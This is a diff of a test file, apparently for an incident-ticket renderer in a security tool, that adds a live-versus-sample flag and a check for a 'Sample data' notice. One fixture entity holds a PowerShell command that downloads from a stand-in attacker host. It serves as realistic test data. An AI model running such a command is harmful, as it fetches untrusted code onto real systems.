@@ -22,7 +22,7 @@ describe('the text for a ticket', () => {
         anEntity({ type: 'Ip', label: '203.0.113.7' }), anEntity({ type: 'Process', label: 'powershell -c iwr http://evil.example/x', verdicts: ['Suspicious'] }), anEntity({ type: 'File', label: 'clean.exe', verdicts: ['NoThreatsFound'] }),
       ],
       comments: [{ text: 'first', by: '', at: '' }, { text: 'Called the user.', by: 'Lidia', at: '2026-11-26T05:00:00Z' }],
-    }), link)).toBe(`### High · Password spray, then inbox rule
+    }), link, 'live')).toBe(`### High · Password spray, then inbox rule
 
 Incident \`41207\` · In progress · priority 87 · True positive / Phishing
 
@@ -52,14 +52,19 @@ Incident \`41207\` · In progress · priority 87 · True positive / Phishing
   })
 
   it('leaves out what is empty', () => {
-    expect(ticketText(aDetail({ summary: aRow({ id: '5', alerts: null, activeAlerts: null, severity: '', status: '' }) }), null)).toBe('### (no name)\n\nIncident `5`\n\n')
+    expect(ticketText(aDetail({ summary: aRow({ id: '5', alerts: null, activeAlerts: null, severity: '', status: '' }) }), null, 'live')).toBe('### (no name)\n\nIncident `5`\n\n')
+  })
+
+  it('says of sample data that it is made up, right after the name', () => {
+    const text = ticketText(aDetail({ summary: aRow({ id: '5', name: 'Password spray' }) }), null, 'sample')
+    expect(text.split('\n').slice(1, 4)).toEqual(['', '**Sample data.** XDR Desk made up this incident.', ''])
   })
 
   it('cuts long lists and says how much is missing', () => {
     const text = ticketText(aDetail({
       summary: aRow({ techniques: Array.from({ length: 17 }, (_, index) => `T${1000 + index}`) }), alerts: Array.from({ length: 12 }, (_, index) => anAlert({ title: `Alert ${index}` })),
       entities: [...Array.from({ length: 20 }, (_, index) => anEntity({ label: `203.0.113.${index}` })), ...Array.from({ length: 11 }, (_, index) => anEntity({ type: 'User', label: `user${index}` }))],
-    }), null)
+    }), null, 'live')
     expect(text).toContain('T1014 and 2 more\n')
     expect(text).toContain('`user9` and 1 more\n')
     expect(text.match(/^- .*Alert \d+$/gm)).toHaveLength(10)
